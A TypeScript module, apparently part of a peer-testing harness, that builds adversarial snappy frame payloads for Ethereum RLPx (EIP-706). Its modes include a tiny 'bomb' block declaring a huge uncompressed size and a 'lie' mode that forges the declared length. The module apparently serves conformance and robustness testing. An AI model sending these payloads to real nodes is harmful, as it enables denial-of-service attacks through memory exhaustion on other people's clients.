/**
 * Snappy payload attacks (EIP-706): what the sender puts in frame-data in
 * place of an honestly compressed payload once snappy is on.
 *   - honest: compress the payload;
 *   - raw: send it uncompressed (a receiver must fail to decode it, or be lucky);
 *   - bomb: a tiny block whose varint header declares `declared` bytes
 *     (a receiver that inflates before checking the size allocates that much);
 *   - lie: the honest block with its declared length replaced by `declared`.
 */
import { concatBytes } from '../../reference-node/wire/bytes.js';
import { snappyCompress, snappyUncompressedLength } from '../../reference-node/wire/rlpx/snappy.js';

export type SnappyMode = { mode: 'honest' } | { mode: 'raw' } | { mode: 'bomb'; declared: number } | { mode: 'lie'; declared: number };

export function varint(value: number): Uint8Array {
  const out: number[] = [];
  let v = value;
  do {
    let b = v % 128;
    v = Math.floor(v / 128);
    if (v > 0) b |= 0x80;
    out.push(b);
  } while (v > 0);
  return Uint8Array.from(out);
}

function varintLength(data: Uint8Array): number {
  let i = 0;
  while (i < data.length && i < 5 && (data[i]! & 0x80) !== 0) i++;
  return i + 1;
}

/** The frame-data payload for `payload` under `mode`. */
export function snappyPayload(payload: Uint8Array, mode: SnappyMode): Uint8Array {
  switch (mode.mode) {
    case 'honest':
      return snappyCompress(payload);
    case 'raw':
      return payload;
    case 'bomb':
      // A literal of 4 bytes, then a copy that would repeat them: tiny input, declared output as large as asked.
      return concatBytes(varint(mode.declared), Uint8Array.of(0x0c, 0x61, 0x62, 0x63, 0x64, 0x0d, 0x04));
    case 'lie': {
      const honest = snappyCompress(payload);
      return concatBytes(varint(mode.declared), honest.subarray(varintLength(honest)));
    }
  }
}

/** The uncompressed length a snappy block declares, or undefined if the header is unreadable. */
export function declaredLength(block: Uint8Array): number | undefined {
  try {
    return snappyUncompressedLength(block);
  } catch {
    return undefined;
  }
}
